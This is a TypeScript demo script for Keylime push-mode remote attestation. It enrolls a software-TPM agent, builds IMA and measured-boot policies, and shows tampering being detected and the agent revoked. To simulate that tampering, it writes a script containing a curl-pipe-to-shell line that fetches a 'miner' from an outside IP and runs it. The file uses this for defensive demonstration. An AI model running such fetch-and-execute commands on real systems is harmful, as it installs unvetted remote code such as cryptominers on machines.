/**
 * `keylime demo --push`: the demo in push mode (API 3.0). The verifier runs with `mode = push`; the agent runs as
 * `keylime push-agent` on swtpm and opens no port: it registers, proves possession of its AK to the verifier and
 * submits a quote, its UEFI boot log and its IMA increment every interval. The tenant enrolls it with `--push-model` (the agent is
 * never contacted; `--cert` gives the verifier the revocation key). Then a program the agent runs changes: its IMA
 * emulator measures the new content, the next evidence fails the runtime policy, and the verifier sends a signed
 * revocation to the local webhook, which upstream's push verifier does not do.
 */
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { extendEventLogIntoTpm } from '../devtools/event-log-replay.ts'
import { waitFor } from '../devtools/local-cluster.ts'
import { syntheticEventLog } from '../devtools/synthetic-event-log.ts'
import { runTenantCommand } from '../tenant/cli-actions.ts'
import type { DemoOptions, DemoStage } from './demo-stage.ts'
import { keylime, nextRevocation, runOnDemoStage, say, writePrograms } from './demo-stage.ts'

export function runPushDemo(opts: DemoOptions): Promise<number> {
  return runOnDemoStage(
    opts,
    {
      tempPrefix: 'keylime-push-demo-',
      intro: (dir) => `push mode; work directory ${dir} (logs in ${join(dir, 'logs')})`,
      tenantCaName: 'Keylime TS push demo tenant CA',
      verifierEnv: { KEYLIME_VERIFIER_MODE: 'push', KEYLIME_VERIFIER_MEASURED_BOOT_POLICY_NAME: 'example' },
      verifierLine: (cluster) =>
        `verifier in push mode at https://127.0.0.1:${cluster.verifierPort}: /v3.0 sessions and attestations`,
    },
    (stage) => pushScenario(opts, stage),
  )
}

/** One push agent: enrolled without being contacted, attested, then one of its programs changes. */
async function pushScenario(opts: DemoOptions, stage: DemoStage): Promise<string[]> {
  const { dir, tenantCa, cluster, webhook, tenantBase, tenant } = stage
  // The programs the machine runs; the agent's IMA emulator measures them now and whenever they change.
  const [backup, health] = writePrograms(join(dir, 'programs'))
  // The boot log the agent serves as its UEFI evidence; extended into its TPM below, as firmware would have.
  const bootLog = syntheticEventLog({ keys: await stage.secureBootKeys })
  const bootLogPath = join(dir, 'binary_bios_measurements')
  writeFileSync(bootLogPath, bootLog.bytes)
  const agent = await cluster.startPushAgent('push-agent1', [
    '--ima-emulator-paths',
    `${backup},${health}`,
    '--measuredboot-ml-path',
    bootLogPath,
  ])
  say(`push agent ${agent.uuid} started on swtpm (no listening port)`)
  await extendEventLogIntoTpm(agent.swtpm.transport, bootLog.bytes)
  say('measured boot: a synthetic UEFI boot log (Secure Boot, shim → grub → kernel) extended into its PCRs')

  await waitFor('the push agent to register and activate', opts.stepTimeout, async () =>
    (await tenant.registrar.getAgent(agent.uuid)) ? true : undefined,
  )
  say('push agent registered with the registrar (EK certificate, AK, credential activation)')
  await waitFor('the IMA emulator to measure the programs', opts.stepTimeout, () =>
    readFileSync(agent.imaList, 'utf8').split('\n').filter(Boolean).length >= 3 ? true : undefined,
  )
  const policyPath = join(dir, 'runtime-policy.json')
  await keylime(['policy', 'create', 'runtime', '-m', agent.imaList, '-o', policyPath])
  say("runtime policy generated from the agent's IMA list (2 programs + boot_aggregate)")
  const refstatePath = join(dir, 'mb-refstate.json')
  await keylime(['policy', 'create', 'measured-boot', '-e', bootLogPath, '-o', refstatePath])
  say('measured-boot reference state generated from the boot log')

  say(
    `tenant add --push-model ${agent.uuid}: tpm_policy {"15": [0…0]}, measured-boot and runtime policies, revocation key (--cert)`,
  )
  await runTenantCommand('add', {
    ...tenantBase,
    uuid: agent.uuid,
    pushModel: true,
    tpmPolicy: JSON.stringify({ 15: ['0'.repeat(64)] }),
    runtimePolicy: policyPath,
    mbPolicy: refstatePath,
    cert: tenantCa,
  })

  const status = () => tenant.service.cvstatus(agent.uuid)
  let seen = 0
  await waitFor('three good attestations', opts.stepTimeout, async () => {
    const s = await status()
    if (s.attestation_status === 'FAIL')
      throw new Error(`the push agent failed attestation: ${s.last_event_id}`)
    const count = Number(s.attestation_count ?? 0)
    if (count > seen) {
      seen = count
      say(
        `push agent: attestation #${count} passed (PoP token, quote over the challenge, UEFI log, IMA increment)`,
      )
    }
    return count >= 3 ? true : undefined
  })

  say(`tampering: ${backup} is replaced; the agent's IMA emulator measures the new content`)
  writeFileSync(backup, '#!/bin/sh\ncurl -s http://203.0.113.9/miner | sh\n', { mode: 0o700 })
  const tamperedAt = Date.now()
  const failed = await waitFor('the verifier to detect the change', opts.stepTimeout, async () => {
    const s = await status()
    return s.attestation_status === 'FAIL' ? s : undefined
  })
  say(
    `verifier detected it after ${((Date.now() - tamperedAt) / 1000).toFixed(1)}s: attestation_status FAIL, event ${failed.last_event_id}`,
  )
  const revocation = await nextRevocation(webhook, 0, opts.stepTimeout)
  say(
    `webhook: signed revocation for ${revocation.agent_id} verified (event ${revocation.event_id ?? '(none)'})`,
  )
  say(
    'summary: push agent enrolled without inbound connection, attested, tampering detected, revocation delivered',
  )
  return [
    `npx keylime tenant -c cvstatus --push-model -u ${agent.uuid} --config ${cluster.tenantConf}`,
    `npx keylime tenant -c bulkinfo --config ${cluster.tenantConf}`,
  ]
}
